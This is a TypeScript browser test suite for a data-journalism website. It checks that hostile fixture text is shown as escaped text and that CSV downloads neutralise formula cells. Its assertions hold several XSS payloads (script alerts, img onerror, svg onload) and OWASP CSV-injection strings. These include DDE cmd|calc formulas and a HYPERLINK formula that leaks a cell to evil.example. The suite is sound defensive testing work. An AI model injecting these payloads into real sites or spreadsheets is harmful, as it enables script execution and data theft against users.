// A site built from tables whose text is full of markup and script (tests/fixtures/hostile):
// every page shows that text as text, runs none of it, and builds no link from it.
import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parseCsv } from "../../src/data/csv.ts";
import { crawl, type CrawlResult, browserAndSite } from "../support/browser.ts";
import { ROOT } from "../support/data-copy.ts";

let crawled: CrawlResult;
const dialogs: string[] = [];

const web = browserAndSite({
  scenario: "hostile",
  prepare: async (browser, site) => {
    const context = await browser.newContext();
    context.on("page", (page) => page.on("dialog", async (d) => { dialogs.push(d.message()); await d.dismiss(); }));
    crawled = await crawl(context, site.root);
    await context.close();
  },
});

describe("data text containing HTML and script", () => {
  it("never runs: no alert on any page", () => {
    expect(crawled.pages.length).toBeGreaterThan(10);
    expect(dialogs).toEqual([]);
    expect(crawled.pages.filter((p) => p.consoleErrors.length > 0).map((p) => p.consoleErrors)).toEqual([]);
  });

  it("is shown as text on the event page, the actor page and the sources page", async () => {
    const page = await web.browser.newPage();
    page.on("dialog", (d) => { dialogs.push(d.message()); void d.dismiss(); });
    await page.goto(web.site.root + "events/evt-2025-02-12-trump-putin-call/");
    await expect(page.locator("h1").textContent()).resolves.toBe('Trump and Putin speak <script>alert("xss-headline")</script>');
    await expect(page.locator("body").textContent()).resolves.toContain('"><img src=x onerror=alert("xss-attr")>');
    expect(await page.locator("img[onerror], svg[onload]").count()).toBe(0);
    await page.goto(web.site.root + "actors/act-donald-trump/");
    await expect(page.locator("h1").textContent()).resolves.toBe('Donald "><img src=x onerror=alert("xss-attr")> Trump');
    await page.goto(web.site.root + "sources/");
    await expect(page.locator("body").textContent()).resolves.toContain("Caliber </title><svg onload=alert('xss-svg')>");
    // A publisher's classification reason (publishers.csv) is data too.
    await expect(page.locator("body").textContent()).resolves.toContain("Reposts <img src=x onerror=alert('xss-reason')> wire copy");
    expect(await page.locator("img[onerror], svg[onload]").count()).toBe(0);
    // Only our own bundled scripts, no inline script from the data.
    const inline = await page.locator("script:not([src])").evaluateAll((els) => els.map((e) => e.textContent).filter((t) => t && /alert/.test(t)));
    expect(inline).toEqual([]);
    await page.close();
  });

  it("keeps a URL with markup in it a plain https link, with the markup escaped", async () => {
    const page = await web.browser.newPage();
    await page.goto(web.site.root + "sources/");
    const href = await page.locator('a[href^="https://www.arabnews.pk/"]').first().getAttribute("href");
    expect(href).toBe('https://www.arabnews.pk/node/2592325?q=%22%3E%3Cscript%3Ealert(%22xss-url%22)%3C/script%3E');
    await page.close();
  });

  it("escapes markup inside the timeline's SVG", async () => {
    const page = await web.browser.newPage();
    await page.goto(web.site.root + "timeline/");
    const label = await page.locator('a.tl-event[data-event-id="evt-2025-02-12-trump-putin-call"] title').textContent();
    expect(label).toContain('<script>alert("xss-headline")</script>');
    expect(await page.locator("svg.timeline-svg script").count()).toBe(0);
    await page.close();
  });
});

// OWASP's CSV-injection examples sit in the hostile tables (a headline, a figure's label, a source's
// title, an actor's role). Every CSV the site serves must hand them to a spreadsheet as text.
describe("formula cells in the downloads", () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Rubio and Lavrov hold a phone call")';
  const cells = async (path: string) => {
    const context = await web.browser.newContext();
    const response = await context.request.get(web.site.root + path);
    expect(response.status(), path).toBe(200);
    const text = await response.text();
    await context.close();
    return parseCsv(text).records.map((r) => r.cells.map((c) => c.value));
  };

  it("are neutralised in every CSV the site links to: /data/ tables and chart downloads", async () => {
    const csvs = crawled.files.map((f) => new URL(f.url).pathname).filter((p) => p.endsWith(".csv"));
    // One download per table the descriptor declares.
    const tables = JSON.parse(readFileSync(join(ROOT, "data/datapackage.json"), "utf8")).resources.length;
    expect(csvs.filter((p) => p.includes("/data/")).length).toBe(tables);
    expect(csvs.filter((p) => p.includes("/charts/")).length).toBeGreaterThan(5);
    for (const path of new Set(csvs)) {
      for (const cell of (await cells(path.slice(1))).flat()) {
        expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d.]+(?:[eE][+-]?\d+)?$/.test(cell), `${path}: ${cell}`).toBe(false);
      }
    }
  });

  it("keep their text after the apostrophe, in the table and in the chart that draws them", async () => {
    expect((await cells("data/events.csv")).flat()).toContain(`'${HYPERLINK}`);
    expect((await cells("data/figures.csv")).flat()).toContain("'+cmd|' /C calc'!A0");
    expect((await cells("data/sources.csv")).flat()).toContain("'@SUM(1+9)*cmd|' /C calc'!A0");
    expect((await cells("data/actors.csv")).flat()).toContain("'-2+3+cmd|' /C calc'!A0");
    expect((await cells("charts/timeline.csv")).flat()).toContain(`'${HYPERLINK}`);
    expect((await cells("charts/minerals-money-fund.csv")).flat()).toContain("'+cmd|' /C calc'!A0");
  });

  it("stay exact in the JSON downloads", async () => {
    const context = await web.browser.newContext();
    const events = await (await context.request.get(web.site.root + "data/events.json")).json();
    expect(events.find((e: { id: string }) => e.id === "evt-2025-02-15-rubio-lavrov-call").headline).toBe(HYPERLINK);
    const figures = await (await context.request.get(web.site.root + "data/figures.json")).json();
    expect(figures.find((f: { id: string }) => f.id === "fig-urif-dfc-seed-capital").label).toBe("+cmd|' /C calc'!A0");
    await context.close();
  });
});
